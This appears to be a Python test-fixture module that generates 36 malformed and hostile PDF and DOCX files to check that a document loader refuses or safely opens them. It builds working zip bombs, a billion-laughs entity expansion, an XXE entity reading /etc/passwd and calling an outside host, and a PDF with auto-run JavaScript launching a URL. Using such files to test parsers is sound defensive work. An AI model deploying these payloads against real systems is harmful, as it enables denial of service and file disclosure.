"""Issue 21's hostile PDF and DOCX files (18 of each), made byte by byte in a folder on demand.

Each is a :class:`battery_inputs.Case`: refused with one sentence holding
``refusal``, or opened with ``text_has`` in its text. ``tests/test_battery.py``
sends them through the six terminal subcommands and
``tests/ui/test_battery_window.py`` through the window, with the issue-14 cases.
The PDFs are written object by object (:func:`_pdf`), the DOCX files entry by
entry (:func:`_zip`), so each kind of damage is exactly the one named; the two
well-formed controls come from python-docx and the same PDF writer.
"""

from __future__ import annotations

import functools
import hashlib
import io
import os
import random
import struct
import zlib
from pathlib import Path

from battery_inputs import Case

from desktop.core.ingest.loading import MAX_FILE_BYTES

LINE = "GDP grew 5.2% in 2024 and 1256 jobs were added."
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'

# -- PDF, object by object ---------------------------------------------------------------


def _pdf(objects: list[bytes], *, trailer: bytes = b"", root: int = 1) -> bytes:
    """A PDF whose object ``i + 1`` is ``objects[i]``, with a correct cross-reference table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root %d 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, trailer, xref)
    return bytes(out)


def _stream(data: bytes, *, compress: bool = False, extra: bytes = b"") -> bytes:
    if compress:
        data = zlib.compress(data, 9)
        extra += b" /Filter /FlateDecode"
    return b"<< /Length %d%s >>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def _text_ops(lines: list[str]) -> bytes:
    body = b"".join(b"(%s) Tj T*\n" % ln.encode("latin-1") for ln in lines)
    return b"BT /F1 11 Tf 14 TL 72 760 Td\n" + body + b"ET"


_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
_PAGE = (
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 3 0 R >> >> /Contents %d 0 R >>"
)


def _text_pdf(pages: list[list[str]], *, compress: bool = False) -> bytes:
    """Pages of Helvetica text: 1 catalog, 2 pages, 3 font, then a page and its content per page."""
    kids = b" ".join(b"%d 0 R" % (4 + 2 * i) for i in range(len(pages)))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, len(pages)),
        _FONT,
    ]
    for i, lines in enumerate(pages):
        objects.append(_PAGE % (5 + 2 * i))
        objects.append(_stream(_text_ops(lines), compress=compress))
    return _pdf(objects)


def _rc4(key: bytes, data: bytes) -> bytes:
    s = list(range(256))
    j = 0
    for i in range(256):
        j = (j + s[i] + key[i % len(key)]) % 256
        s[i], s[j] = s[j], s[i]
    out, i, j = bytearray(), 0, 0
    for byte in data:
        i = (i + 1) % 256
        j = (j + s[i]) % 256
        s[i], s[j] = s[j], s[i]
        out.append(byte ^ s[(s[i] + s[j]) % 256])
    return bytes(out)


_PAD = bytes.fromhex("28bf4e5e4e758a4164004e56fffa01082e2e00b6d0683e802f0ca9fe6453697a")


def _encrypted_pdf(*, user_password_known: bool) -> bytes:
    """RC4 40-bit (standard security handler, revision 2). With ``user_password_known`` the user
    password is empty (only an owner password: opens without asking); otherwise it is unknown."""
    file_id = hashlib.md5(b"battery").digest()
    owner = hashlib.md5(b"owner").digest() * 2
    permissions = -44
    user_pw = b"" if user_password_known else b"secret"
    key = hashlib.md5((user_pw + _PAD)[:32] + owner + struct.pack("<i", permissions) + file_id).digest()[:5]
    u_entry = _rc4(key, _PAD)
    content = _rc4(hashlib.md5(key + struct.pack("<I", 5)[:3] + b"\x00\x00").digest()[:10], _text_ops([LINE]))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
        _FONT,
        _PAGE % 5,
        _stream(content),
        b"<< /Filter /Standard /V 1 /R 2 /O <%s> /U <%s> /P %d >>"
        % (owner.hex().encode(), u_entry.hex().encode(), permissions),
    ]
    return _pdf(objects, trailer=b"/Encrypt 6 0 R /ID [<%s> <%s>] " % (file_id.hex().encode(), file_id.hex().encode()))


def _shared_content_pdf(pages: int, lines: list[str]) -> bytes:
    """``pages`` pages that all draw one compressed content stream: a small file, a lot of text."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [%s] /Count %d >>" % (b" ".join(b"%d 0 R" % (5 + i) for i in range(pages)), pages),
        _FONT,
        _stream(_text_ops(lines), compress=True),
    ]
    objects += [_PAGE % 4] * pages
    return _pdf(objects)


def _page_count_bomb(fanout: int = 1000) -> bytes:
    """A page tree claiming ``fanout``² pages through shared nodes (a few hundred bytes per level)."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [%s] /Count %d >>" % (b"3 0 R " * fanout, fanout * fanout),
        b"<< /Type /Pages /Parent 2 0 R /Kids [%s] /Count %d >>" % (b"4 0 R " * fanout, fanout),
        b"<< /Type /Page /Parent 3 0 R /MediaBox [0 0 612 792] >>",
    ]
    return _pdf(objects)


def _pdf_cases(folder: Path, write) -> list[Case]:
    good = _text_pdf([[LINE, "Second line of page one."], ["Page two holds 8.6% growth."]])
    write("ok.pdf", good, text_has=("5.2%", "8.6%"))
    write("truncated.pdf", good[: len(good) // 2], refusal="damaged")
    loop = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>",
    ]
    write("page-tree-loop.pdf", _pdf(loop), refusal="damaged")
    write("password.pdf", _encrypted_pdf(user_password_known=False), refusal="password")
    write("owner-password-only.pdf", _encrypted_pdf(user_password_known=True), text_has=("5.2%",))
    # 30 MB of text: 3,000 pages drawing one 10 KB content stream; and one page whose stream inflates to 30 MB
    lines = [f"{LINE} Row {i}." for i in range(170)]
    write("text-bomb-pages.pdf", _shared_content_pdf(3000, lines), refusal="characters of text")
    one_page = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>", _FONT, _PAGE % 5]
    one_page.append(_stream(_text_ops([LINE] * 600_000), compress=True))
    write("text-bomb-one-page.pdf", _pdf(one_page), refusal="unpack")
    write("page-count-bomb.pdf", _page_count_bomb(), refusal="pages")
    bad_deflate = _stream(b"x\x9c" + os.urandom(400), extra=b" /Filter /FlateDecode")
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [4 0 R 6 0 R] /Count 2 >>",
        _FONT,
        _PAGE % 5,
        _stream(_text_ops([LINE])),
        _PAGE % 7,
        bad_deflate,
    ]
    write("corrupt-deflate.pdf", _pdf(objects), text_has=("5.2%",))
    shifted = good.replace(b"0000000", b"0000001")  # every offset in the table wrong: PDFium rebuilds it
    write("broken-xref.pdf", shifted, text_has=("5.2%", "8.6%"))
    write("garbage.pdf", b"%PDF-1.7\n" + os.urandom(20_000), refusal="damaged")
    write("empty.pdf", b"", refusal="empty")
    write("image-renamed.pdf", b"\x89PNG\r\n\x1a\n" + os.urandom(5000), refusal="not a PDF")
    zero = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"]
    write("zero-pages.pdf", _pdf(zero), refusal="damaged")
    deep = b"<< /Type /Catalog /Pages 2 0 R /Deep " + b"[" * 100_000 + b"]" * 100_000 + b" >>"
    write("deep-nesting.pdf", _pdf([deep, *[o for o in _text_pdf_objects()][1:]]), text_has=("5.2%",))
    active = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /URI << /Base (http://203.0.113.9/) >> >>",
        b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
        _FONT,
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 3 0 R >> >> "
        b"/Contents 5 0 R /Annots [7 0 R 8 0 R] >>",
        _stream(_text_ops([LINE])),
        b"<< /S /JavaScript /JS (app.launchURL\\('http://203.0.113.9/x', true\\);) >>",
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /URI /URI (http://203.0.113.9/y) >> >>",
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToR /F (http://203.0.113.9/z.pdf) /D [0 /Fit] >> >>",
    ]
    write("javascript-and-links.pdf", _pdf(active), text_has=("5.2%",))
    over = folder / "over-limit.pdf"
    over.write_bytes(good[:-6] + b" " * (MAX_FILE_BYTES + 1 - len(good)) + b"%%EOF\n")
    fifo = folder / "fifo.pdf"
    os.mkfifo(fifo)
    return [
        Case("over-limit.pdf", str(over), refusal="largest document"),
        Case("fifo.pdf", str(fifo), refusal="not a regular file"),
    ]


def _text_pdf_objects() -> list[bytes]:
    return [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
        _FONT,
        _PAGE % 5,
        _stream(_text_ops([LINE])),
    ]


# -- DOCX, entry by entry ------------------------------------------------------------------

_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    "</Types>"
).encode()
_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="word/document.xml"/></Relationships>'
).encode()


def _document(body: str, prolog: str = "") -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>{prolog}<w:document {_W}><w:body>{body}</w:body></w:document>'
    ).encode()


def _para(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def _zip(entries: list[tuple[str, bytes]], *, flags: int = 0) -> bytes:
    """A zip of deflated entries, written by hand (so flags and sizes can be exactly as wanted)."""
    out = bytearray()
    central = bytearray()
    for name, data in entries:
        raw = zlib.compressobj(6, zlib.DEFLATED, -15)
        packed = raw.compress(data) + raw.flush()
        central += _central(name.encode(), zlib.crc32(data), len(packed), len(data), len(out), flags)
        out += _local(name.encode(), zlib.crc32(data), len(packed), len(data), flags) + packed
    return bytes(out + central + _end(len(entries), len(central), len(out)))


def _local(name: bytes, crc: int, packed: int, size: int, flags: int = 0) -> bytes:
    return struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, flags, 8, 0, 0x21, crc, packed, size, len(name), 0) + name


def _central(name: bytes, crc: int, packed: int, size: int, offset: int, flags: int = 0) -> bytes:
    return (
        struct.pack(
            "<IHHHHHHIIIHHHHHII",
            0x02014B50,
            20,
            20,
            flags,
            8,
            0,
            0x21,
            crc,
            packed,
            size,
            len(name),
            0,
            0,
            0,
            0,
            0,
            offset,
        )
        + name
    )


def _end(count: int, central_size: int, central_offset: int) -> bytes:
    return struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, central_size, central_offset, 0)


def _docx(body: str, prolog: str = "", extra: list[tuple[str, bytes]] = ()) -> bytes:
    return _zip(
        [
            ("[Content_Types].xml", _CONTENT_TYPES),
            ("_rels/.rels", _RELS),
            ("word/document.xml", _document(body, prolog)),
        ]
        + list(extra)
    )


@functools.lru_cache(maxsize=1)
def _inflating_to(size: int) -> tuple[bytes, int]:
    """A raw deflate stream of ``size`` bytes of spaces inside one paragraph, made from one
    full-flushed block repeated (each such block stands alone), and the CRC of what it inflates to."""
    head, tail = f"<w:document {_W}><w:body><w:p><w:r><w:t>".encode(), b"</w:t></w:r></w:p></w:body></w:document>"
    chunk = b" " * (1 << 20)
    blocks = size // len(chunk)
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = packer.compress(head) + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(chunk) + packer.flush(zlib.Z_FULL_FLUSH)
    last = packer.compress(tail) + packer.flush(zlib.Z_FINISH)
    crc = zlib.crc32(head)
    for _ in range(blocks):
        crc = zlib.crc32(chunk, crc)
    crc = zlib.crc32(tail, crc)
    return first + block * blocks + last, crc


def _zip_bomb(*, lie: bool) -> bytes:
    """``word/document.xml`` inflates to 2 GB; with ``lie`` the zip's directory says 10 KB."""
    packed, crc = _inflating_to(2 * 1024**3 - (1 << 20))
    size = 10_240 if lie else 2 * 1024**3 - (1 << 20) + 110
    out = bytearray()
    central = bytearray()
    for name, data in (("[Content_Types].xml", _CONTENT_TYPES), ("_rels/.rels", _RELS)):
        raw = zlib.compressobj(6, zlib.DEFLATED, -15)
        body = raw.compress(data) + raw.flush()
        central += _central(name.encode(), zlib.crc32(data), len(body), len(data), len(out))
        out += _local(name.encode(), zlib.crc32(data), len(body), len(data)) + body
    name = b"word/document.xml"
    central += _central(name, crc, len(packed), size, len(out))
    out += _local(name, crc, len(packed), size) + packed
    return bytes(out + central + _end(3, len(central), len(out)))


def _overlapping() -> bytes:
    """Fifield's overlapping-entries bomb: 2,000 directory entries all pointing at one 1 MB-inflating entry."""
    data = _document(_para(LINE) + "<w:p/>" * 170_000)
    raw = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = raw.compress(data) + raw.flush()
    crc = zlib.crc32(data)
    out = bytearray()
    central = bytearray()
    for name, body in (("[Content_Types].xml", _CONTENT_TYPES), ("_rels/.rels", _RELS)):
        r = zlib.compressobj(6, zlib.DEFLATED, -15)
        p = r.compress(body) + r.flush()
        central += _central(name.encode(), zlib.crc32(body), len(p), len(body), len(out))
        out += _local(name.encode(), zlib.crc32(body), len(p), len(body)) + p
    offset = len(out)
    out += _local(b"word/document.xml", crc, len(packed), len(data)) + packed
    for i in range(2000):
        name = b"word/document.xml" if i == 0 else b"word/media/part%d.xml" % i
        central += _central(name, crc, len(packed), len(data), offset)
    return bytes(out + central + _end(2002, len(central), len(out)))


def _cfb(stream_names: list[str]) -> bytes:
    """The first sectors of an OLE compound file (what Word's encrypted .docx and old .doc are) with
    a directory naming ``stream_names``: the signature and names are what a reader can recognise."""
    header = bytes.fromhex("d0cf11e0a1b11ae1") + b"\x00" * 16 + struct.pack("<HHH", 0x3E, 3, 0xFFFE)
    header = header.ljust(512, b"\x00")
    entries = b""
    for name in ["Root Entry", *stream_names]:
        encoded = (name + "\x00").encode("utf-16-le")
        entries += encoded.ljust(64, b"\x00") + struct.pack("<H", len(encoded)) + b"\x02" * 1 + b"\x01" + b"\x00" * 60
    return header + entries.ljust(4096, b"\x00") + os.urandom(8192)


def _docx_cases(folder: Path, write) -> list[Case]:
    import docx

    document = docx.Document()
    document.add_heading("Battery report", level=0)
    document.add_paragraph(LINE)
    document.add_paragraph("Exports rose 8.6% in 2025.")
    buf = io.BytesIO()
    document.save(buf)
    good = buf.getvalue()
    write("ok.docx", good, text_has=("5.2%", "8.6%"))
    write("zip-bomb.docx", _zip_bomb(lie=False), refusal="unpack")
    write("zip-bomb-lying-directory.docx", _zip_bomb(lie=True), refusal="damaged")
    # 30 MB of text in 15,000 paragraphs (deflates 280:1, so the directory gives it away) ...
    write("text-bomb.docx", _docx(_para((LINE + " ") * 40) * 15_000), refusal="unpack")
    # ... and 4.5 million characters of words drawn at random (3:1, only counting the text finds it)
    words = [f"w{n:03d}x" for n in range(900)]
    rng = random.Random(21)
    paragraphs = "".join(_para(" ".join(rng.choices(words, k=90))) for _ in range(8_400))
    write("text-bomb-plain.docx", _docx(paragraphs), refusal="characters of text")
    lol = (
        '<!DOCTYPE lolz [<!ENTITY lol "lol">'
        + "".join(f'<!ENTITY lol{i} "{("&lol%s;" % (i - 1 if i > 1 else "")) * 10}">' for i in range(1, 10))
        + "]>"
    )
    write("billion-laughs.docx", _docx(_para("&lol9;") + _para(LINE), prolog=lol), refusal="damaged")
    xxe = '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY y SYSTEM "http://203.0.113.9/e">]>'
    write(
        "external-entities.docx",
        _docx(_para("&x;&y;") + _para(LINE), prolog=xxe),
        text_has=("5.2%",),
        text_lacks=("root:",),
    )
    broken = bytearray(good)
    start = broken.find(b"word/document.xml") + len(b"word/document.xml")
    broken[start : start + 200] = os.urandom(200)  # the entry's deflated data, its sizes and CRC untouched
    write("corrupt-deflate.docx", bytes(broken), refusal="damaged")
    locked = _zip(
        [
            ("[Content_Types].xml", _CONTENT_TYPES),
            ("_rels/.rels", _RELS),
            ("word/document.xml", _document(_para(LINE))),
        ],
        flags=1,
    )
    write("encrypted-entries.docx", locked, refusal="password")
    write("office-encrypted.docx", _cfb(["EncryptionInfo", "EncryptedPackage", "\x06DataSpaces"]), refusal="password")
    write("old-word-renamed.docx", _cfb(["WordDocument", "1Table", "\x05SummaryInformation"]), refusal=".doc")
    write(
        "no-document-part.docx",
        _zip([("[Content_Types].xml", _CONTENT_TYPES), ("_rels/.rels", _RELS)]),
        refusal="damaged",
    )
    write("not-a-zip.docx", os.urandom(30_000), refusal="not a .docx")
    write("truncated.docx", good[: len(good) // 2], refusal="damaged")
    write("deep-nesting.docx", _docx("<w:sdt>" * 300_000 + "</w:sdt>" * 300_000 + _para(LINE)), refusal="damaged")
    write("million-empty-paragraphs.docx", _docx("<w:p/>" * 1_000_000 + _para(LINE)), text_has=("5.2%",))
    write("overlapping-entries.docx", _overlapping(), refusal="unpack")
    links = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" '
        'Target="http://203.0.113.9/i.png" TargetMode="External"/>'
        '<Relationship Id="rId8" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        'Target="http://203.0.113.9/t.dotm" TargetMode="External"/></Relationships>'
    ).encode()
    write(
        "external-links.docx", _docx(_para(LINE), extra=[("word/_rels/document.xml.rels", links)]), text_has=("5.2%",)
    )
    return []


#: the cases' names, known without making the files (pytest collects tests by them)
OFFICE_NAMES = (
    "ok.pdf",
    "truncated.pdf",
    "page-tree-loop.pdf",
    "password.pdf",
    "owner-password-only.pdf",
    "text-bomb-pages.pdf",
    "text-bomb-one-page.pdf",
    "page-count-bomb.pdf",
    "corrupt-deflate.pdf",
    "broken-xref.pdf",
    "garbage.pdf",
    "empty.pdf",
    "image-renamed.pdf",
    "zero-pages.pdf",
    "deep-nesting.pdf",
    "javascript-and-links.pdf",
    "over-limit.pdf",
    "fifo.pdf",
    "ok.docx",
    "zip-bomb.docx",
    "zip-bomb-lying-directory.docx",
    "text-bomb.docx",
    "text-bomb-plain.docx",
    "billion-laughs.docx",
    "external-entities.docx",
    "corrupt-deflate.docx",
    "encrypted-entries.docx",
    "office-encrypted.docx",
    "old-word-renamed.docx",
    "no-document-part.docx",
    "not-a-zip.docx",
    "truncated.docx",
    "deep-nesting.docx",
    "million-empty-paragraphs.docx",
    "overlapping-entries.docx",
    "external-links.docx",
)


def make_office_cases(folder: Path) -> list[Case]:
    """Write the 36 files into ``folder`` and return their cases, in the order of :data:`OFFICE_NAMES`."""
    folder.mkdir(parents=True, exist_ok=True)
    cases: list[Case] = []

    def write(name: str, data: bytes, **expect) -> None:
        path = folder / name
        path.write_bytes(data)
        cases.append(Case(name, str(path), **expect))

    cases += _pdf_cases(folder, write)
    cases += _docx_cases(folder, write)
    by_name = {c.name: c for c in cases}
    assert sorted(by_name) == sorted(OFFICE_NAMES), sorted(set(by_name) ^ set(OFFICE_NAMES))
    return [by_name[n] for n in OFFICE_NAMES]
